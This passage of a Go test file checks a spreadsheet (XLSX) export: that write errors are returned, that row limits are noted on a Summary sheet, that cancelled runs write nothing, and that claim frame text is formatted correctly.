				First: analysis.Date{Year: 2024, Month: 10, Day: 1}, Last: analysis.Date{Year: 2024, Month: 10, Day: 28},
				Sides: []analysis.Side{{Label: "low", Sources: []string{"Source 1"}}, {Label: "high", Sources: []string{"Source 2"}}},
			})
		}
	}
	return r
}

// failingWriter accepts n bytes, then fails.
type failingWriter struct{ n int }

func (w *failingWriter) Write(p []byte) (int, error) {
	if len(p) > w.n {
		k := w.n
		w.n = 0
		return k, errors.New("disk full")
	}
	w.n -= len(p)
	return len(p), nil
}

// TestXLSXWriteError checks that a failing writer's error is returned.
func TestXLSXWriteError(t *testing.T) {
	for _, n := range []int{0, 100, 10_000} {
		err := Write(&failingWriter{n: n}, analysis.NewIndex(syntheticReport(50, 5)), Options{})
		if err == nil || !strings.Contains(err.Error(), "disk full") {
			t.Errorf("Write to a writer failing after %d bytes = %v, want the write error", n, err)
		}
	}
}

// TestXLSXRowLimit checks that rows beyond what a sheet can hold are left
// off with a note on the Summary, not a broken workbook.
func TestXLSXRowLimit(t *testing.T) {
	defer func(n int) { rowLimit = n }(rowLimit)
	rowLimit = 11 // header and ten rows
	r := reporttest.FixtureReport(t)
	if len(r.Claims) <= 10 {
		t.Fatalf("fixture has only %d claims", len(r.Claims))
	}
	var buf bytes.Buffer
	if err := Write(&buf, analysis.NewIndex(r), Options{}); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(sheetClaims)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 11 {
		t.Errorf("Claims has %d rows, want 11", len(rows))
	}
	summary, err := f.GetRows(sheetSummary)
	if err != nil {
		t.Fatal(err)
	}
	want := fmt.Sprintf("Claims: %d more rows than Excel can hold", len(r.Claims)-10)
	found := false
	for _, row := range summary {
		found = found || strings.Contains(strings.Join(row, " "), want)
	}
	if !found {
		t.Errorf("Summary does not say %q", want)
	}
}

// cancelledWriter is an output whose run has been cancelled.
type cancelledWriter struct{ n int }

func (w *cancelledWriter) Write(p []byte) (int, error) { w.n += len(p); return len(p), nil }
func (w *cancelledWriter) Err() error                  { return context.Canceled }

// TestXLSXStopsWhenCancelled: a large workbook is built before anything
// is written, so the writer asks its output whether the run was cancelled
// as it goes, and stops without writing.
func TestXLSXStopsWhenCancelled(t *testing.T) {
	r := syntheticReport(20_000, 20)
	var w cancelledWriter
	err := Write(&w, analysis.NewIndex(r), Options{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("Write on a cancelled run = %v, want context.Canceled", err)
	}
	if w.n != 0 {
		t.Errorf("a cancelled workbook wrote %d bytes", w.n)
	}
}

func TestFrameText(t *testing.T) {
	f := &analysis.Frame{Kind: analysis.KindCount, Time: analysis.TimeEarlier, Of: "soldiers", Cues: []string{"time: down from"}}
	if got, want := frameText(f), "of soldiers; not compared (time: down from)"; got != want {
		t.Errorf("frameText = %q, want %q", got, want)
	}
	if got := frameText(&analysis.Frame{Kind: analysis.KindCount, Time: analysis.TimeCurrent}); got != "" {
		t.Errorf("a plain current count's frame text = %q, want empty", got)
	}
}
